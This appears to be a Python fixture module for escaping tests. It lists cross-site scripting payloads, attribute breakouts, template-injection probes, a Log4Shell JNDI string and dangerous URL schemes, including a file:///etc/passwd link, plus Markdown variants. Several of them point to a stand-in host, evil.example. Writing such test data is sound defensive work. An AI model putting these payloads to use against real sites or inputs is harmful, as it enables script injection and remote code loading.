"""Texts that would run in a browser if a page printed them as they are, as data.

Each sets the marker `__xss`, asks for a dialog, or leaves an element or an address behind that no page of ours has.
"""

from __future__ import annotations

# Markup: printed unescaped between tags, each of these is found by the browser.
MARKUP = (
    "<script>__xss=1</script>",
    "</title><script>__xss=1</script>",
    "</script><script>__xss=1</script>",
    "</textarea><script>__xss=1</script>",
    "</option></select><svg onload=__xss=1>",
    "--><script>__xss=1</script>",
    "<ScRiPt>__xss=1</sCrIpT>",
    "<script/x>__xss=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=__xss=1>",
    "<img/src=x/onerror=__xss=1>",
    "<img src=x:x onerror=confirm(1)>",
    "<IMG SRC=x ONERROR=__xss=1>",
    "<<img src=x onerror=__xss=1>>",
    "<svg/onload=__xss=1>",
    "<svg><script>__xss=1</script></svg>",
    "<svg><a xlink:href=javascript:__xss=1><text>x</text></a></svg>",
    "<math><a href=javascript:__xss=1>x</a></math>",
    "<body onload=__xss=1><p onclick=__xss=1>",
    "<input autofocus onfocus=__xss=1>",
    "<details open ontoggle=__xss=1>x</details>",
    "<video src=x onerror=__xss=1></video>",
    "<audio src onloadstart=__xss=1>",
    "<marquee onstart=__xss=1>x</marquee>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<object data=javascript:__xss=1></object>",
    "<embed src=javascript:__xss=1>",
    "<a href=javascript:__xss=1>x</a>",
    "<a href='java&#9;script:__xss=1'>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<form action=javascript:__xss=1><button>x</button></form>",
    "<button formaction=javascript:__xss=1>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=99;url=data:,x>",
    "<form id=__xss>",
    "<style>*{color:red}</style>",
    "<p hx-on::load=__xss=1 hx-trigger=load>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=__xss=1>'>",
    "<!--[if gte IE 4]><script>__xss=1</script><![endif]--><svg onload=__xss=1>",
)
# Ends of attributes: harmful where a quotation mark is not escaped.
ATTRIBUTES = (
    '"><script>__xss=1</script>',
    "'><script>__xss=1</script>",
    '" autofocus onfocus=__xss=1 x="',
    "' onmouseover=__xss=1 x='",
)
# Templates, which a second rendering would carry out; and what turns or forges its surroundings.
OTHERS = (
    "{{7*7}}{% debug %}${7*7}",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/x}",
    "\u202egnp.exe\u2066 P1 \u200f",
)
TEXTS = (*MARKUP, *ATTRIBUTES, *OTHERS)

# Addresses: harmful where they become a link.
ADDRESSES = (
    "javascript:__xss=1",
    "JaVaScRiPt:__xss=1",
    " javascript:__xss=1",
    "java\tscript:__xss=1",
    "javascript://example.org/%0a__xss=1",
    "data:text/html,<script>__xss=1</script>",
    "vbscript:__xss=1",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://example.org/"onmouseover="__xss=1',
)

# Markdown, besides all of the texts above.
MARKDOWN = (
    *(f"[x]({address})" for address in ADDRESSES),
    "[x](&#106;avascript:__xss=1)",
    "[x](javascript&colon;__xss=1)",
    "[x](<javascript:__xss=1>)",
    "<javascript:__xss=1>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:__xss=1)",
    "[x]: javascript:__xss=1\n\n[x]",
    '[x](https://example.org "\\"onmouseover=__xss=1")',
    "```<img onerror=__xss=1>\n</code><script>__xss=1</script>\n```",
    "| <svg/onload=__xss=1> |\n|---|\n| [x](javascript:__xss=1) |",
    "`</code><script>__xss=1</script>`",
    "**<b onmouseover=__xss=1>x</b>**",
)
